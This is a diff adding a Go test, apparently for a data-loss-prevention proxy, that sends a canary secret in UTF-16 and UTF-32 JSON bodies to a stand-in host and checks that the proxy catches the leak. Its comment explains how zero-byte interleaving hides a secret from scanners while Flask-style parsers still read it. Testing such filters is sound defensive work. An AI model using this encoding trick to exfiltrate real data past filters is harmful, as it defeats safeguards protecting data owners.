@@ -228,3 +228,37 @@ func TestAttackExhaustWebSocketPartialMessages(t *testing.T) {
 		time.Sleep(100 * time.Millisecond)
 	}
 }
+
+// TestAttackDLPUTF16Body sends a JSON body in UTF-16 (or UTF-32), which
+// JSON parsers that detect the encoding (Python's json.loads of bytes,
+// so Flask's get_json) read as the secret; every byte of it was
+// interleaved with zero bytes, so no view held the secret.
+func TestAttackDLPUTF16Body(t *testing.T) {
+	doc := `{"note":"` + canary + `"}`
+	tests := map[string][]byte{
+		"UTF-16LE with BOM": append([]byte{0xff, 0xfe}, wide(doc, 2, false)...),
+		"UTF-16BE":          wide(doc, 2, true),
+		"UTF-32LE":          wide(doc, 4, false),
+	}
+	for name, body := range tests {
+		t.Run(name, func(t *testing.T) {
+			f := newProxyFixture(t)
+			f.sendLeak(t, newReq(t, "POST", "https://open.example.test/notes", body, "Content-Type", "application/json"), leakReason)
+		})
+	}
+}
+
+// wide writes the ASCII text s in units of size bytes, big-endian when be.
+func wide(s string, size int, be bool) []byte {
+	var b []byte
+	for i := 0; i < len(s); i++ {
+		u := make([]byte, size)
+		if be {
+			u[size-1] = s[i]
+		} else {
+			u[0] = s[i]
+		}
+		b = append(b, u...)
+	}
+	return b
+}
